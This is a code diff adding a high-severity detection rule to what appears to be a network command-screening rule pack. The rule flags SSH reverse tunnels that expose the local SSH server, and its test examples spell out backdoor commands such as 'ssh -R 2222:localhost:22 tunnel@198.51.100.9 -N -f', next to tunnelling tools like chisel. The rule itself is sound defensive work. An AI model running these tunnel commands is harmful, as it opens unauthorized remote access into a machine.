@@ -105,6 +105,14 @@ export const network: Pack = {
       ["ngrok version", "tailscale status", "cloudflared tunnel login", "chisel client 198.51.100.4:8000 3000:db:5432"],
     ),
     rule(
+      "network.remote-forward-ssh",
+      "high",
+      "opens a port on another host that leads back to this machine's SSH server (a reverse tunnel, a backdoor)",
+      { program: ["ssh", "autossh"], flags: [["-R"]], word: "([\\w.*]+:)?\\d+:(localhost|127\\.0\\.0\\.1|\\[?::1\\]?|0\\.0\\.0\\.0):22" },
+      ["ssh -R 2222:localhost:22 tunnel@198.51.100.9 -N -f", "ssh -fNR 0.0.0.0:9000:127.0.0.1:22 me@relay"],
+      ["ssh -R 8080:localhost:3000 me@relay", "ssh -L 2222:localhost:22 host"],
+    ),
+    rule(
       "network.remote-forward",
       "moderate",
       "opens a port on another host that leads back into this machine",
